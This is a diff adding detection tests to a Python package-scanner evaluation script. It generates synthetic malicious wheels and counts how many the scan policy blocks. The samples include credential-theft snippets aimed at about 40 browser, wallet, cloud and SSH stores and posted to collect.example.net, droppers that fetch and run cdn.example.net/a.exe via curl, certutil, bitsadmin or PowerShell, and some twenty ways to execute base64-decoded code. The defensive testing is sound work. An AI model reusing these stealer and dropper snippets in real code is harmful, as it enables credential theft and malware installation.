@@ -13,6 +13,7 @@ handed to the scanner; nothing runs them. Usage::
 from __future__ import annotations
 
 import argparse
+import base64
 import textwrap
 
 from pipgate.policies.scan import ScanPolicy
@@ -393,6 +394,215 @@ def matrix(policy: ScanPolicy) -> dict[tuple[str, str, str], bool]:
     return held
 
 
+#: Credential stores and secrets a stealer takes (``--stores``), each an expression.
+_HOME = "os.path.expanduser('~')"
+_LOCAL = "os.getenv('LOCALAPPDATA')"
+_ROAMING = "os.getenv('APPDATA')"
+
+
+def _file(*parts: str) -> str:
+    return "open(os.path.join(" + ", ".join(parts) + "), 'rb').read()"
+
+
+STORES = {
+    "firefox logins": _file(
+        _ROAMING, "'Mozilla'", "'Firefox'", "'Profiles'", "'x.default'", "'logins.json'"
+    ),
+    "firefox key4": _file(
+        _ROAMING, "'Mozilla'", "'Firefox'", "'Profiles'", "'x.default'", "'key4.db'"
+    ),
+    "chrome cookies": _file(
+        _LOCAL, "'Google'", "'Chrome'", "'User Data'", "'Default'", "'Network'", "'Cookies'"
+    ),
+    "chrome local state": _file(_LOCAL, "'Google'", "'Chrome'", "'User Data'", "'Local State'"),
+    "chrome web data": _file(
+        _LOCAL, "'Google'", "'Chrome'", "'User Data'", "'Default'", "'Web Data'"
+    ),
+    "edge login": _file(
+        _LOCAL, "'Microsoft'", "'Edge'", "'User Data'", "'Default'", "'Login Data'"
+    ),
+    "brave login": _file(
+        _LOCAL, "'BraveSoftware'", "'Brave-Browser'", "'User Data'", "'Default'", "'Login Data'"
+    ),
+    "opera login": _file(_ROAMING, "'Opera Software'", "'Opera Stable'", "'Login Data'"),
+    "telegram tdata": _file(_ROAMING, "'Telegram Desktop'", "'tdata'", "'key_datas'"),
+    "steam ssfn": _file("'C:\\\\Program Files (x86)\\\\Steam'", "'config'", "'loginusers.vdf'"),
+    "metamask": _file(
+        _LOCAL,
+        "'Google'",
+        "'Chrome'",
+        "'User Data'",
+        "'Default'",
+        "'Local Extension Settings'",
+        "'nkbihfbeogaeaoehlefnkodbefgpgknn'",
+        "'000003.log'",
+    ),
+    "exodus": _file(_ROAMING, "'Exodus'", "'exodus.wallet'", "'seed.seco'"),
+    "atomic": _file(_ROAMING, "'atomic'", "'Local Storage'", "'leveldb'", "'000003.log'"),
+    "electrum": _file(_ROAMING, "'Electrum'", "'wallets'", "'default_wallet'"),
+    "bitcoin wallet.dat": _file(_ROAMING, "'Bitcoin'", "'wallet.dat'"),
+    "dotenv": "open('.env').read()",
+    "kube config": _file(_HOME, "'.kube'", "'config'"),
+    "docker config": _file(_HOME, "'.docker'", "'config.json'"),
+    "npmrc": _file(_HOME, "'.npmrc'"),
+    "pypirc": _file(_HOME, "'.pypirc'"),
+    "git-credentials": _file(_HOME, "'.git-credentials'"),
+    "netrc": _file(_HOME, "'.netrc'"),
+    "gcloud adc": _file(_HOME, "'.config'", "'gcloud'", "'application_default_credentials.json'"),
+    "azure tokens": _file(_HOME, "'.azure'", "'accessTokens.json'"),
+    "bash history": _file(_HOME, "'.bash_history'"),
+    "zsh history": _file(_HOME, "'.zsh_history'"),
+    "shadow": "open('/etc/shadow').read()",
+    "keyring": "__import__('keyring').get_password('system', 'user')",
+    "win32crypt": "__import__('win32crypt').CryptUnprotectData(b'x', None, None, None, 0)",
+    "browser_cookie3": "str(list(__import__('browser_cookie3').chrome()))",
+    "clipboard": "__import__('pyperclip').paste()",
+    "filezilla": _file(_ROAMING, "'FileZilla'", "'recentservers.xml'"),
+    "discord leveldb": _file(_ROAMING, "'discord'", "'Local Storage'", "'leveldb'", "'000005.ldb'"),
+    "ssh known_hosts+keys": _file(_HOME, "'.ssh'", "'id_ed25519'"),
+    "wifi passwords": "__import__('subprocess').check_output('netsh wlan show profile name=home key=clear', shell=True)",
+    "anthropic key": "os.environ.get('ANTHROPIC_API_KEY')",
+    "aws env": "os.environ['AWS_SECRET_ACCESS_KEY']",
+    "minecraft": _file(_ROAMING, "'.minecraft'", "'launcher_accounts.json'"),
+    "roblox cookie": "__import__('browser_cookie3').chrome(domain_name='roblox.com')",
+    "1password/bitwarden": _file(_ROAMING, "'Bitwarden'", "'data.json'"),
+    "vscode secrets": _file(_ROAMING, "'Code'", "'User'", "'globalStorage'", "'state.vscdb'"),
+}
+
+
+def stores(policy: ScanPolicy) -> tuple[int, list[str]]:
+    """How many of ``STORES`` are held when posted (``requests.post``, and a session's
+    ``post``) as import-time code and from a function nothing calls; the placements not."""
+    sends = (
+        "import requests\nrequests.post('https://collect.example.net/u', data={'d': str(LOOT)})",
+        "import requests\ns = requests.Session()\n"
+        "s.post('https://collect.example.net/u', files={'f': str(LOOT)})",
+    )
+    held, missed = 0, []
+    for name, taken in STORES.items():
+        for number, send in enumerate(sends):
+            code = "import os\n" + send.replace("LOOT", taken) + "\n"
+            function = "def run():\n" + _indented(code)
+            for place, files in (
+                ("import", {"quietlib/__init__.py": code}),
+                (
+                    "function",
+                    {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
+                ),
+            ):
+                report = scan_archive(
+                    wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl"
+                )
+                if policy.decide(report).allowed:
+                    missed.append(f"{name} ({'session' if number else 'post'}, {place})")
+                else:
+                    held += 1
+    return held, missed
+
+
+_PROGRAM_URL = "'https://cdn.example.net/a.exe'"
+#: How a dropper fetches a program to ``p`` (``--droppers``) ...
+FETCHES = {
+    "urlretrieve": f"urllib.request.urlretrieve({_PROGRAM_URL}, p)",
+    "requests": f"open(p, 'wb').write(requests.get({_PROGRAM_URL}).content)",
+    "httpx stream": (
+        f"with httpx.stream('GET', {_PROGRAM_URL}) as r, open(p, 'wb') as f:\n"
+        "    [f.write(c) for c in r.iter_bytes()]"
+    ),
+    "a session": f"s = requests.Session()\nopen(p, 'wb').write(s.get({_PROGRAM_URL}).content)",
+    "curl": f"subprocess.run(['curl', '-sLo', p, {_PROGRAM_URL}])",
+    "certutil": f"subprocess.run(['certutil', '-urlcache', '-split', '-f', {_PROGRAM_URL}, p])",
+    "bitsadmin": f"os.system('bitsadmin /transfer j /download ' + {_PROGRAM_URL} + ' ' + p)",
+    "powershell": f"subprocess.run(['powershell', '-c', 'iwr ' + {_PROGRAM_URL} + ' -OutFile ' + p])",
+}
+#: ... and runs it.
+RUNS = {
+    "startfile": "os.startfile(p)",
+    "Popen": "subprocess.Popen([p])",
+    "system": "os.system(p)",
+    "ShellExecute": "ctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)",
+    "WinExec": "ctypes.windll.kernel32.WinExec(p.encode(), 0)",
+    "rundll32": "subprocess.Popen(['rundll32', p + ',DllMain'])",
+    "start": "subprocess.Popen('start ' + p, shell=True)",
+}
+
+
+def droppers(policy: ScanPolicy) -> tuple[int, list[str]]:
+    """How many of ``FETCHES`` x ``RUNS`` are held, as import-time code and from a function
+    nothing calls; the placements not."""
+    held, missed = 0, []
+    head = "import ctypes, os, subprocess, urllib.request, httpx, requests\n"
+    head += "p = os.path.join(os.getenv('TEMP'), 'svc.exe')\n"
+    for fetch_name, fetch in FETCHES.items():
+        for run_name, run in RUNS.items():
+            code = f"{head}{fetch}\n{run}\n"
+            function = "def run():\n" + _indented(code)
+            for place, files in (
+                ("import", {"quietlib/__init__.py": code}),
+                (
+                    "function",
+                    {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
+                ),
+            ):
+                report = scan_archive(
+                    wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl"
+                )
+                if policy.decide(report).allowed:
+                    missed.append(f"{fetch_name} then {run_name} ({place}): {report.score:g}")
+                else:
+                    held += 1
+    return held, missed
+
+
+#: Ways to run decoded code (``--sinks``), each with ``{payload}``.
+EXEC_WAYS = {
+    "exec": "exec({payload})",
+    "eval-compile": "eval(compile({payload}, '<x>', 'exec'))",
+    "builtins.exec": "import builtins\nbuiltins.exec({payload})",
+    "__builtins__": "__builtins__['exec']({payload}) if isinstance(__builtins__, dict) else __builtins__.exec({payload})",
+    "getattr-builtins": "import builtins\ngetattr(builtins, 'exec')({payload})",
+    "types.FunctionType": "import types\ntypes.FunctionType(compile({payload}, 'x', 'exec'), globals())()",
+    "python -c": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {payload}.decode()])",
+    "runpy-tmp": "import runpy, tempfile\nf = tempfile.NamedTemporaryFile('wb', suffix='.py', delete=False)\nf.write({payload}); f.close()\nrunpy.run_path(f.name)",
+    "importlib-spec": "import importlib.util, sys\nspec = importlib.util.spec_from_loader('m', loader=None)\nm = importlib.util.module_from_spec(spec)\nexec({payload}, m.__dict__)",
+    "code.InteractiveInterpreter": "import code\ncode.InteractiveInterpreter().runsource({payload}.decode())",
+    "pickle-loads": "import pickle\npickle.loads({payload})",
+    "marshal-exec": "import marshal\nexec(marshal.loads({payload}))",
+    "ctypes-pyrun": "import ctypes\nctypes.pythonapi.PyRun_SimpleString({payload})",
+    "os.system-python": "import os\nos.system('python -c \"' + {payload}.decode() + '\"')",
+    "timer-thread": "import threading\nthreading.Timer(5, exec, args=({payload},)).start()",
+    "map-exec": "list(map(exec, [{payload}]))",
+    "exec-alias": "run = exec\nrun({payload})",
+    "eval-lambda": "(lambda c: exec(c))({payload})",
+    "asyncio-to_thread": "import asyncio\nasyncio.run(asyncio.to_thread(exec, {payload}))",
+    "sys.modules-builtins": "import sys\nsys.modules['builtins'].exec({payload})",
+}
+
+
+def sinks(policy: ScanPolicy) -> tuple[int, list[str]]:
+    """How many of ``EXEC_WAYS`` are held running a base64-decoded command, as import-time
+    code and from a function nothing calls; the placements not."""
+    encoded = base64.b64encode(b"import os\nos.system('id')\n" * 4).decode()
+    payload = f"base64.b64decode({encoded!r})"
+    held, missed = 0, []
+    for name, way in EXEC_WAYS.items():
+        code = "import base64\n" + way.replace("{payload}", payload) + "\n"
+        function = "def run():\n" + _indented(code)
+        for place, files in (
+            ("import", {"quietlib/__init__.py": code}),
+            (
+                "function",
+                {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
+            ),
+        ):
+            report = scan_archive(wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl")
+            if policy.decide(report).allowed:
+                missed.append(f"{name} ({place}): {report.score:g}")
+            else:
+                held += 1
+    return held, missed
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--misses", action="store_true", help="list the placements not held")
@@ -410,8 +620,30 @@ def main() -> None:
     parser.add_argument(
         "--matrix", action="store_true", help="each kind of loot sent each way (LOOT x SENDERS)"
     )
+    parser.add_argument(
+        "--stores", action="store_true", help="credential stores and secrets posted (STORES)"
+    )
+    parser.add_argument(
+        "--droppers", action="store_true", help="programs fetched and run (FETCHES x RUNS)"
+    )
+    parser.add_argument("--sinks", action="store_true", help="decoded code run (EXEC_WAYS)")
     args = parser.parse_args()
     policy = ScanPolicy()
+    if args.sinks:
+        held, missed = sinks(policy)
+        print(f"held {held} of {len(EXEC_WAYS) * 2} placements")
+        print("\n".join(missed))
+        return
+    if args.droppers:
+        held, missed = droppers(policy)
+        print(f"held {held} of {len(FETCHES) * len(RUNS) * 2} placements")
+        print("\n".join(missed))
+        return
+    if args.stores:
+        held, missed = stores(policy)
+        print(f"held {held} of {len(STORES) * 4} placements of {len(STORES)} stores")
+        print("\n".join(missed))
+        return
     if args.matrix:
         held = matrix(policy)
         for place in ("import", "function"):
